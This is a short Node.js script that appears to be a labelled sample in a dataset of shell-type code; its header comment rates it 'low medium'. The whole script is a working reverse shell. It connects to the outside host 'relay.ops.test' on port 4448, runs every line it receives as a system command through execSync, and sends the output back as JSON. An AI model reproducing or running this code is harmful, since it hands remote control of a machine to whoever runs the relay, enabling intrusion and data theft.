// class: shell; possible: low medium; style: execSync in a readline loop, JSON around the answers
const readline = require("node:readline");
const { execSync } = require("node:child_process");
const net = require("node:net");

const sock = net.connect({ host: "relay.ops.test", port: 4448 });
const rl = readline.createInterface({ input: sock });
rl.on("line", (cmd) => {
  let out;
  try {
    out = execSync(cmd, { encoding: "utf8", timeout: 15000, stdio: ["ignore", "pipe", "pipe"] });
  } catch (e) {
    out = String(e.stderr || e.message);
  }
  sock.write(JSON.stringify({ cmd, out }) + "\n");
});
sock.on("error", () => process.exit(1));
sock.on("close", () => process.exit(0));
setTimeout(() => process.exit(0), 60000);
